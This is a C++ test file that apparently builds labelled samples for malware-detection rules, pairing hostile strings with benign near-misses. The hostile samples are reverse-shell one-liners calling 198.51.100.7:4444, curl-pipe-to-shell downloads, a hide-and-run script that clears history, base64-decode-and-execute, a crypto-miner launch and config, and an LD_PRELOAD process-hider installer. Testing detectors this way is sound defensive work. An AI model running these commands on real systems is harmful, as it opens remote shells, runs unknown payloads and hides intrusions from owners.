// SPDX-License-Identifier: Apache-2.0
#include "samples.hpp"

#include <random>

#include "samples_recipe.hpp"
#include "samples_traits.hpp"
#include "support/samples.hpp"

namespace portcullis::test {
namespace {

std::vector<Sample> eicar_samples() {
  return {{"eicar", eicar(), {"eicar_test_file"}},
          {"eicar_with_newline", joined({eicar(), "\r\n"}), {"eicar_test_file"}},
          {"eicar_quoted_in_a_text", joined({"The test file is ", eicar()}), {}},
          {"eicar_cut", eicar().substr(0, 67), {}},
          {"eicar_with_a_story_behind", joined({eicar(), std::string(200, ' ')}), {}}};
}

std::vector<Sample> miner_samples() {
  const std::string donate = std::string("donate") + "-level";
  const std::vector<std::string> traits = {kStratum, "RandomX dataset", donate, "speed 10s/60s/15m"};
  std::string rules_text;
  for (const auto& trait : traits) rules_text += trait + "\n";
  const std::string config =
      joined({"{\n \"", donate, "\": 1, \"cpu\": true, \"pools\": [{\"url\": \"pool:3333\", "});
  return {{"miner_binary", elf(2, traits), {"miner_xmrig"}},
          {"miner_traits_in_a_text", rules_text, {}},
          {"program_that_knows_pools", elf(2, {kStratum, "randomx", "hash rate"}), {}},
          {"miner_config", config + "\"user\": \"x\"}]}", {"miner_configuration"}},
          {"config_without_user", config + "\"name\": \"x\"}]}", {}},
          {"database_pools", "{\"pools\": [{\"url\": \"db\", \"user\": \"x\"}], \"cpu\": 2}", {}},
          {"miner_launch",
           joined({kShebang, "./x -o ", kStratum, "pool:3333 --", donate, " 1\n"}),
           {"miner_launch_script"}},
          {"pool_url_without_miner", joined({kShebang, "check -o ", kStratum, "pool:3333\n"}), {}},
          {"launch_in_a_manual", joined({"Usage: x -o ", kStratum, "pool --", donate, " 1\n"}), {}}};
}

std::vector<Sample> reverse_shell_samples() {
  const std::string bash = joined({"bash -i >& ", kDevTcp, "198.51.100.7/4444 0>&1\n"});
  const std::string netcat = std::string("nc -e") + " /bin/sh 198.51.100.7 4444\n";
  const std::string connect = "s.connect((\"198.51.100.7\", 4444))\n";
  const std::string dup = "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n";
  const std::string spawn = std::string("pty.") + "spawn(\"/bin/sh\")\n";
  return {{"bash_device", kShebang + bash, {"reverse_shell_script"}},
          {"netcat", kShebang + netcat, {"reverse_shell_script"}},
          {"fifo",
           joined({kShebang, "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 ", "| nc h 1 > /tmp/f\n"}),
           {"reverse_shell_script"}},
          {"bash_in_a_document", "An attacker runs " + bash, {}},
          {"port_probe", joined({kShebang, "exec 3<>", kDevTcp, "db/5432 && echo up\n"}), {}},
          {"netcat_probe", kShebang + "nc -z db 5432\n", {}},
          {"python_shell", joined({"import os\n", connect, dup, spawn}), {"reverse_shell_python"}},
          {"python_daemon", joined({"import os\n", connect, dup, "serve()\n"}), {}},
          {"python_terminal", joined({"import pty\n", spawn}), {}},
          {"cron_shell", "* * * * * root " + bash, {"reverse_shell_crontab"}},
          {"cron_job", "*/5 * * * * root /usr/bin/bash -c 'run-parts /etc/cron.d'\n", {}},
          {"cron_probe", joined({"* * * * * root echo > ", kDevTcp, "db/5432\n"}), {}}};
}

std::vector<Sample> download_samples() {
  const std::string address = kCurl + "-fsSL http://198.51.100.7/x.sh";
  const std::string fetch = "wget -q https://example.org/x -O /tmp/.x\n";
  const std::string run = "chmod +x /tmp/.x\nnohup /tmp/.x &\n";
  const std::string text(80, 'Q');
  const std::string decode = std::string(" | base64") + " -d";
  return {{"pipe_from_address", joined({kShebang, address, kPipeShell}), {"download_and_run_from_address"}},
          {"pipe_from_name", joined({kShebang, kCurl, "-fsSL https://get.example.org", kPipeShell}), {}},
          {"pipe_from_own_host", joined({kShebang, kCurl, "http://127.0.0.1:8080/x", kPipeShell}), {}},
          {"download_from_address", joined({kShebang, address, " -o x.sh\n"}), {}},
          {"hide_and_run", joined({kShebang, fetch, run, "history -c\n"}), {"download_hide_and_run"}},
          {"run_without_hiding", joined({kShebang, fetch, run}), {}},
          {"hide_without_download", joined({kShebang, run, "history -c\n"}), {}},
          {"encoded", joined({kShebang, "echo ", text, decode, kPipeShell}), {"encoded_and_run"}},
          {"encoded_into_a_file", joined({kShebang, "echo ", text, decode, " > key.pem\n"}), {}},
          {"short_encoded", joined({kShebang, "echo aGVsbG8=", decode, kPipeShell}), {}}};
}

std::vector<Sample> preload_samples() {
  const std::string stat = std::string("/proc/") + "%s/stat";
  const std::string build = "gcc -shared -fPIC -o /usr/lib/x.so x.c -ldl\n";
  const std::string install = joined({"echo /usr/lib/x.so >> ", kPreload, "\n"});
  const std::string lock = joined({"chattr +i ", kPreload, "\n"});
  return {{"hider",
           elf(3, {"readdir64", "readdir", "dlsym", "/proc/self/fd/%d", stat}),
           {"preload_process_hider"}},
          {"process_viewer", elf(2, {"readdir64", "dlsym", "/proc/self/fd/%d", stat}), {}},
          {"library_that_lists", elf(3, {"readdir64", "dlsym", stat}), {}},
          {"installer", joined({kShebang, build, install, lock}), {"preload_installer"}},
          {"allocator_setup", joined({kShebang, install}), {}},
          {"built_allocator", joined({kShebang, build, install}), {}}};
}

}  // namespace

std::string elf(char type, const std::vector<std::string>& texts) {
  std::string file(64, '\0');
  file.replace(0, 4, "\177ELF");
  file[4] = 2;  // 64 bits
  file[16] = type;
  file[56] = 2;  // program headers
  file[60] = 3;  // sections
  for (const auto& text : texts) file.append(text).append(1, '\0');
  return file;
}

std::string joined(std::initializer_list<std::string> parts) {
  std::string text;
  for (const auto& part : parts) text += part;
  return text;
}

std::string noise(std::size_t size) {
  std::mt19937 random(42);
  std::string bytes;
  while (bytes.size() < size) bytes += static_cast<char>(random());
  return bytes;
}

std::vector<Sample> rule_samples() {
  std::vector<Sample> all;
  for (const auto& part :
       {eicar_samples(),          miner_samples(),        reverse_shell_samples(),   download_samples(),
        preload_samples(),        config_samples(),       download_source_samples(), masquerade_samples(),
        miner_program_samples(),  miner_script_samples(), packed_samples(),          persistence_samples(),
        rootkit_samples(),        account_samples(),      backdoor_samples(),        credential_samples(),
        destroy_samples(),        escape_samples(),       exploit_samples(),         proxy_samples(),
        reconnaissance_samples(), supply_chain_samples(), webshell_samples()}) {
    all.insert(all.end(), part.begin(), part.end());
  }
  return all;
}

}  // namespace portcullis::test
